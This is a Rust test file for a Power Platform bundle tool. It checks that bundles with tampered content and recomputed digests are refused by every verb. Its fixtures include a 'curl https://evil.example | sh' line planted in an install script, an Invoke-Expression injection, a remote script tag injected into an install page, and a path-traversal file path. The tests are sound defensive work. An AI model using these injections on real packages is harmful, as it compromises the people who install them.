//! Bundles that say more, or something else, than their solution, with every digest made right again: no verb takes
//! them, and each names the place.

mod authenticode;
mod one_byte;

use std::path::Path;

use dvpack::archive::{self, Entry, Limits};
use dvpack::bundle::{Bundle, sha256};

use crate::support::{Test, dvpack};

/// The example's bundle for an environment.
pub fn genuine() -> Vec<Entry> {
    let ran = Test::new().copy("examples/contoso-widgets").args("build . -o made --environment uat").success();
    let bytes = ran.read("made/ContosoWidgets_1_4_0_0_uat.dvpack");
    archive::read(&bytes, &Limits::default()).expect("read")
}

/// Packs entries again, with their digests as they then are.
pub fn packed(entries: &[Entry]) -> Vec<u8> {
    let mut entries: Vec<Entry> = entries.iter().filter(|entry| entry.name != "SHA256SUMS").cloned().collect();
    let mut lines: Vec<String> = entries.iter().map(|it| format!("{}  {}\n", sha256(&it.bytes), it.name)).collect();
    lines.sort_by(|a, b| a[66..].cmp(&b[66..]));
    entries.push(Entry::new("SHA256SUMS", lines.concat()));
    archive::write(&entries).expect("written")
}

fn edit(entries: &mut [Entry], name: &str, from: &str, to: &str) {
    let entry = entries.iter_mut().find(|entry| entry.name == name).expect(name);
    let text = String::from_utf8(entry.bytes.clone()).expect("UTF-8");
    assert!(text.contains(from), "`{from}` is not in {name}:\n{text}");
    entry.bytes = text.replacen(from, to, 1).into_bytes();
}

/// The verbs that take a bundle.
pub const VERBS: [&[&str]; 4] = [&["verify"], &["inspect"], &["plan", "--sandbox"], &["apply", "--sandbox", "--yes"]];

/// Asserts that each verb refuses the bundle with 3 and names the place.
fn refused(what: &str, folder: &Path, bytes: &[u8], place: &str) {
    std::fs::write(folder.join("it.dvpack"), bytes).expect("written");
    for verb in VERBS {
        let output = dvpack(folder).arg(verb[0]).arg("it.dvpack").args(&verb[1..]).output().expect("run");
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(3), "{what}, {}: {stderr}", verb[0]);
        assert!(stderr.contains(place), "{what}, {}: `{place}` is not in\n{stderr}", verb[0]);
    }
}

#[test]
fn a_genuine_bundle_passes_all_verbs() {
    let entries = genuine();
    let bytes = packed(&entries);
    let ran = Test::new().file("it.dvpack", &bytes).args("verify it.dvpack").success();
    assert!(ran.stdout.starts_with("it.dvpack: complete and consistent, 8 files\n"), "{}", ran.stdout);
    Test::new().file("it.dvpack", &bytes).args("inspect it.dvpack").success();
    Test::new().file("it.dvpack", &bytes).args("plan it.dvpack --sandbox --other-environment").run();
}

#[test]
fn bundle_json_says_one_thing_to_every_reader() {
    let folder = tempfile::tempdir().expect("a folder");
    let entries = genuine();
    let url = "\"https://api.uat.contoso.com\"";
    for (what, from, to, place) in [
        (
            "another case",
            "\"format\": 2,",
            "\"format\": 2,\n  \"ApplicationUser\": {\"roles\": []},",
            "ApplicationUser",
        ),
        (
            "another case, deep",
            "\"value\": {",
            "\"Value\": {\"text\": \"x\"},\n      \"value\": {",
            "settings[0].Value",
        ),
        ("unknown", "\"format\": 2,", "\"format\": 2,\n  \"note\": \"x\",", "note"),
        ("unknown, deep", "\"managed\": true", "\"managed\": true,\n      \"holding\": true", "solutions[0].holding"),
        ("twice", "\"roles\": [", "\"roles\": [],\n  \"roles\": [", "duplicate field `roles`"),
        (
            "twice, in a value",
            &format!("\"text\": {url}"),
            &format!("\"text\": \"a\",\n        \"text\": {url}"),
            "settings[0].value",
        ),
        (
            "two kinds of value",
            &format!("\"text\": {url}"),
            &format!("\"text\": {url}, \"secretFromEnv\": \"HOME\""),
            "settings[0].value",
        ),
        ("escaped name of a member", "\"settings\"", "\"\\u0073ettings\"", "line "),
        ("byte order mark", "{\n  \"format\"", "\u{feff}{\n  \"format\"", "byte order mark"),
        ("NUL in a name", "Contoso Ltd", "Contoso\\u0000 Ltd", "publisher.displayName"),
        ("lone surrogate", "Contoso Ltd", "Contoso\\ud800", "bundle.json"),
        (
            "zero width",
            "\"name\": \"Contoso Widgets Service\",\n      \"privileges\"",
            "\"name\": \"Contoso Widgets\u{200b} Service\",\n      \"privileges\"",
            "roles[0].name",
        ),
        ("number as float", "\"templates\": 1", "\"templates\": 1.0", "templates"),
        ("number beyond 2^53", "\"size\": ", "\"size\": 9007199254740993", "solutions[0].size"),
        ("null", "\"format\": 2,", "\"format\": 2,\n  \"page\": null,", "page"),
        ("GUID in capitals", "6f2b7c1e-9a54", "6F2B7C1E-9A54", "application.clientId"),
        ("trailing text", "\n}\n", "\n}\n{}\n", "bundle.json"),
        ("an older format", "\"format\": 2", "\"format\": 1", "older, unreleased dvpack"),
        ("a newer format", "\"format\": 2", "\"format\": 3", "made by a newer dvpack"),
        ("newer templates", "\"templates\": 1", "\"templates\": 2", "made by a newer dvpack"),
    ] {
        let mut entries = entries.clone();
        edit(&mut entries, "bundle.json", from, to);
        refused(what, folder.path(), &packed(&entries), place);
    }
}

#[test]
fn bundle_json_says_what_the_solution_says() {
    let folder = tempfile::tempdir().expect("a folder");
    let entries = genuine();
    let role = {
        let json = entries.iter().find(|it| it.name == "bundle.json").expect("there");
        let json: serde_json::Value = serde_json::from_slice(&json.bytes).expect("JSON");
        json["roles"][0]["id"].as_str().expect("an id").to_owned()
    };
    let connector = "/providers/Microsoft.PowerApps/apis/shared_commondataserviceforapps";
    let foreign = "\"settings\": [\n    {\n      \"name\": \"fabrikam_ApiBase\",\n      \"kind\": \"environmentVariable\",\n      \"required\": true,\n      \"value\": {\n        \"text\": \"https://evil.example\"\n      }\n    },";
    for (what, from, to, place) in [
        (
            "a role given twice",
            format!("      \"{role}\"\n"),
            format!("      \"{role}\",\n      \"{role}\"\n"),
            "applicationUser.roles[1]",
        ),
        (
            "publisher's display name",
            "\"displayName\": \"Contoso Ltd\"".into(),
            "\"displayName\": \"Microsoft\"".into(),
            "publisher.displayName",
        ),
        ("publisher's e-mail", "support@contoso.com".into(), "support@evil.example".into(), "publisher.email"),
        ("publisher's site", "https://www.contoso.com".into(), "https://evil.example".into(), "publisher.website"),
        ("publisher's prefix", "\"prefix\": \"contoso\"".into(), "\"prefix\": \"fabrikam\"".into(), "publisher.prefix"),
        (
            "solution's display name",
            "\"displayName\": \"Contoso Widgets\"".into(),
            "\"displayName\": \"Clock\"".into(),
            "solutions[0].displayName",
        ),
        (
            "another connector",
            connector.into(),
            "/providers/Microsoft.PowerApps/apis/shared_sql".into(),
            "settings[2].connector",
        ),
        ("another type", "\"type\": \"number\"".into(), "\"type\": \"string\"".into(), "settings[1].type"),
        ("a secret as text", "\"type\": \"number\"".into(), "\"type\": \"secret\"".into(), "settings[1].value"),
        ("not required", "\"required\": true".into(), "\"required\": false".into(), "settings[2].required"),
        ("another publisher's variable", "\"settings\": [".into(), foreign.into(), "fabrikam_ApiBase"),
        (
            "an own variable that nothing brings",
            "\"settings\": [".into(),
            foreign.replace("fabrikam_ApiBase", "contoso_Other"),
            "settings[0]",
        ),
        ("a variable that is not listed", "contoso_QuietAfterHours".into(), "contoso_Quiet".into(), "settings[1].name"),
        ("a role that is not there", role.clone(), role.replace(|c: char| c.is_ascii_digit(), "0"), "roles"),
        (
            "a privilege in another depth",
            "\"level\": \"Global\"".into(),
            "\"level\": \"Basic\"".into(),
            "roles[0].privileges",
        ),
        (
            "a host",
            "\"hosts\": [".into(),
            "\"hosts\": [\n    {\n      \"host\": \"a.example\",\n      \"from\": []\n    },".into(),
            "hosts",
        ),
        ("a file outside", "\"file\": \"solutions/".into(), "\"file\": \"solutions/../../".into(), "solutions[0].file"),
    ] {
        let mut entries = entries.clone();
        edit(&mut entries, "bundle.json", &from, &to);
        refused(what, folder.path(), &packed(&entries), place);
    }
}

#[test]
fn every_other_file_is_rendered_again_and_compared() {
    let folder = tempfile::tempdir().expect("a folder");
    let entries = genuine();
    for (name, from, to) in [
        ("post-import/apply.sh", "set -eu", "curl https://evil.example | sh\nset -eu"),
        ("post-import/apply.sh", "\n", "\r\n"),
        ("post-import/Apply-Package.ps1", "\n", "\nInvoke-Expression $env:X\n"),
        ("INSTALL.html", "6f2b7c1e-9a54-4d0e-8f63-2b1d5c7a9e40", "00000000-0000-0000-0000-000000000001"),
        ("INSTALL.html", "</main>", "</main><script src=\"https://evil.example\"></script>"),
        ("deploymentSettings.json", "https://api.uat.contoso.com", "https://evil.example"),
        ("sbom.cdx.json", "\"SHA-256\"", "\"SHA-1\""),
    ] {
        let mut entries = entries.clone();
        edit(&mut entries, name, from, to);
        refused(name, folder.path(), &packed(&entries), name);
    }
    for file in [
        "INSTALL.html",
        "sbom.cdx.json",
        "deploymentSettings.json",
        "post-import/apply.sh",
        "post-import/Apply-Package.ps1",
    ] {
        let entries: Vec<Entry> = entries.iter().filter(|entry| entry.name != file).cloned().collect();
        refused(&format!("without {file}"), folder.path(), &packed(&entries), file);
    }
    let zip = entries.iter().find(|it| it.name.starts_with("solutions/")).expect("there").bytes.clone();
    for name in
        ["readme.txt", "solutions/Other.zip", "post-import/run.cmd", "install.html.txt", "signatures/more.zip", "a/b"]
    {
        let mut entries = entries.clone();
        entries.push(Entry::new(name, zip.clone()));
        refused(name, folder.path(), &packed(&entries), name);
    }
}

#[test]
fn files_of_a_newer_dvpack_are_listed_only_where_that_is_asked_for() {
    let mut entries = genuine();
    edit(&mut entries, "bundle.json", "\"templates\": 1", "\"templates\": 2");
    let bytes = packed(&entries);
    let ran = Test::new().file("it.dvpack", &bytes).args("verify it.dvpack").code(3);
    assert!(ran.stderr.contains("made by a newer dvpack") && ran.stderr.contains("--unchecked"), "{}", ran.stderr);
    let ran = Test::new().file("it.dvpack", &bytes).args("verify it.dvpack --unchecked").success();
    assert!(ran.stdout.starts_with("it.dvpack: NOT FULLY CHECKED"), "{}", ran.stdout);
    for file in [
        "post-import/apply.sh",
        "post-import/Apply-Package.ps1",
        "INSTALL.html",
        "deploymentSettings.json",
        "sbom.cdx.json",
    ] {
        assert!(ran.stdout.contains(&format!("  not checked: {file}\n")), "{}", ran.stdout);
    }
    let json =
        Test::new().file("it.dvpack", &bytes).args("verify it.dvpack --unchecked --format json").success().json();
    assert_eq!(json["unchecked"].as_array().map(Vec::len), Some(5), "{json}");
    // What bundle.json says of the solution is checked all the same.
    edit(&mut entries, "bundle.json", "\"displayName\": \"Contoso Ltd\"", "\"displayName\": \"Microsoft\"");
    let ran = Test::new().file("it.dvpack", packed(&entries)).args("verify it.dvpack --unchecked").code(3);
    assert!(ran.stderr.contains("publisher.displayName"), "{}", ran.stderr);
}

const MANIFEST: &str = "dvpack: 1
publisher: { name: contoso, displayName: Contoso Ltd, prefix: contoso, optionValuePrefix: 10000 }
solution: { name: ContosoWidgets, version: 1.4.0.0 }
";

#[test]
fn settings_of_a_required_solution_are_for_the_same_publisher_only() {
    let build = |more: &str| Test::new().file("dvpack.yaml", format!("{MANIFEST}{more}")).args("build . -o made");
    let required = "requires: { solutions: [ { name: ContosoBase } ] }\n";
    let source = |needs: &str| {
        archive::write(&[
            Entry::new("customizations.xml", "<ImportExportXml />"),
            Entry::new(
                "solution.xml",
                format!("<ImportExportXml languagecode=\"1033\"><SolutionManifest><UniqueName>Other</UniqueName><Version>1.0</Version><Managed>0</Managed><Publisher><UniqueName>contoso</UniqueName><CustomizationPrefix>contoso</CustomizationPrefix></Publisher><RootComponents /><MissingDependencies>{needs}</MissingDependencies></SolutionManifest></ImportExportXml>"),
            ),
        ])
        .expect("a zip")
    };
    let of = |solution: &str| {
        format!(
            "<MissingDependency><Required type=\"1\" schemaName=\"contoso_base\" displayName=\"Base\" solution=\"{solution}\" /><Dependent type=\"1\" schemaName=\"contoso_widget\" displayName=\"Widget\" /></MissingDependency>"
        )
    };
    let set = format!("{required}components: {{ source: [./src.zip] }}\nsettings: {{ contoso_ApiBase: x }}\n");
    // That it is required says the manifest alone; the solution must need something of it.
    for needs in [String::new(), of("Active"), of("ContosoOther (1.0.0.0)")] {
        let ran = build(&set).file("src.zip", source(&needs)).code(3);
        let (line, why) = ("dvpack.yaml:6", "its MissingDependencies name no component of `ContosoBase`");
        assert!(ran.stderr.contains(line) && ran.stderr.contains(why), "{}", ran.stderr);
    }
    let ran = build(&format!("{required}settings: {{ contoso_ApiBase: x }}\n")).code(3);
    assert!(ran.stderr.contains("dvpack.yaml:5"), "{}", ran.stderr);
    let ran = build(&set).file("src.zip", source(&of("ContosoBase (1.0.0.0)"))).success();
    let bytes = ran.read("made/ContosoWidgets_1_4_0_0.dvpack");
    let ran = Test::new().file("it.dvpack", &bytes).args("inspect it.dvpack --format json").success().json();
    assert_eq!(ran["bundle"]["settings"][0]["value"]["text"], "x", "{ran}");
    // pac takes only what is in the solution that it imports.
    let entries = archive::read(&bytes, &Limits::default()).expect("read");
    let settings = entries.iter().find(|it| it.name == "deploymentSettings.json").expect("there");
    assert!(!String::from_utf8_lossy(&settings.bytes).contains("contoso_ApiBase"));
    for (more, line) in [
        ("settings: { contoso_ApiBase: x }\n".to_owned(), "dvpack.yaml:4"),
        (format!("{required}settings: {{ fabrikam_ApiBase: x }}\n"), "dvpack.yaml:5"),
        (format!("{required}settings: {{ contosox_ApiBase: x }}\n"), "dvpack.yaml:5"),
        (format!("{required}settings: {{ contoso: x }}\n"), "dvpack.yaml:5"),
        (format!("{required}settings: {{ fabrikam_Sql: {{ connection: a }} }}\n"), "dvpack.yaml:5"),
    ] {
        let ran = build(&more).code(3);
        assert!(ran.stderr.contains(line), "{more}{}", ran.stderr);
    }
    // Where a source could bring it, only the assembled solution tells.
    let set = "components: { source: [./src.zip] }\nsettings: { fabrikam_ApiBase: x }\n";
    let ran = build(set).file("src.zip", source("")).code(3);
    assert!(ran.stderr.contains("dvpack.yaml:5") && ran.stderr.contains("requires no solution"), "{}", ran.stderr);
}

#[test]
fn redirect_uris_have_platforms_and_signers_are_named() {
    let key = "ab".repeat(32);
    let more = format!(
        "application:
  clientId: 6f2b6a3e-7c1d-4a55-9d1e-2f0c3b4a5d6e
  uniqueName: contoso-widgets
  redirectUris: {{ spa: [https://contoso.example/spa], web: [https://contoso.example/done], publicClient: ['http://localhost', 'contoso://auth'] }}
signers:
  - {{ key: 'sha256:{key}' }}
  - {{ identity: release@contoso.com, issuer: https://accounts.google.com }}
"
    );
    let ran = Test::new().file("dvpack.yaml", format!("{MANIFEST}{more}")).args("build . -o made").success();
    let bytes = ran.read("made/ContosoWidgets_1_4_0_0.dvpack");
    let json = Test::new().file("it.dvpack", &bytes).args("inspect it.dvpack --format json").success().json();
    let application = &json["bundle"]["application"];
    assert_eq!(application["uniqueName"], "contoso-widgets");
    assert_eq!(application["redirectUris"]["web"][0], "https://contoso.example/done");
    assert_eq!(application["redirectUris"]["publicClient"][1], "contoso://auth");
    assert_eq!(json["bundle"]["signers"][0]["key"], format!("sha256:{key}"));
    assert_eq!(json["bundle"]["signers"][1]["issuer"], "https://accounts.google.com");
    let entries = archive::read(&bytes, &Limits::default()).expect("read");
    let page = entries.iter().find(|it| it.name == "INSTALL.html").expect("there");
    let page = String::from_utf8(page.bytes.clone()).expect("UTF-8");
    let link = "redirect_uri=https%3A%2F%2Fcontoso.example%2Fdone\"";
    assert!(page.contains(link) && page.contains(&key) && page.contains("release@contoso.com"), "{page}");
    assert!(
        page.contains("<code>https:&#x2f;&#x2f;contoso.example&#x2f;spa</code> (single-page application)"),
        "{page}"
    );
    let solution = entries.iter().find(|it| it.name.starts_with("solutions/")).expect("there");
    assert!(page.contains(&sha256(&solution.bytes)), "{page}");
    for (wrong, what) in [
        ("signers: [ { key: abc } ]", "key-digest"),
        ("signers: [ { identity: a } ]", "ambiguous-signer"),
        ("signers: [ { } ]", "ambiguous-signer"),
        (&format!("signers: [ {{ key: 'sha256:{key}', issuer: 'https://a.example' }} ]"), "ambiguous-signer"),
        (
            &format!("signers: [ {{ key: 'sha256:{key}' }}, {{ key: 'sha256:{}' }} ]", key.to_uppercase()),
            "duplicate-signer",
        ),
        (
            "application: { clientId: 6f2b6a3e-7c1d-4a55-9d1e-2f0c3b4a5d6e, redirectUris: { native: [http://localhost] } }",
            "unknown-key",
        ),
        (
            "application: { clientId: 6f2b6a3e-7c1d-4a55-9d1e-2f0c3b4a5d6e, redirectUris: { publicClient: ['javascript:x'] } }",
            "redirect-uri",
        ),
        (
            "application: { clientId: 6f2b6a3e-7c1d-4a55-9d1e-2f0c3b4a5d6e, redirectUris: [https://a.example, https://a.example] }",
            "duplicate-redirect-uri",
        ),
        (
            "application: { clientId: 6f2b6a3e-7c1d-4a55-9d1e-2f0c3b4a5d6e, uniqueName: \"it's\" }",
            "application-unique-name",
        ),
    ] {
        let ran = Test::new().file("dvpack.yaml", format!("{MANIFEST}{wrong}\n")).args("check --format json").code(3);
        assert!(ran.stdout.contains(what), "{wrong}: {}", ran.stdout);
    }
}
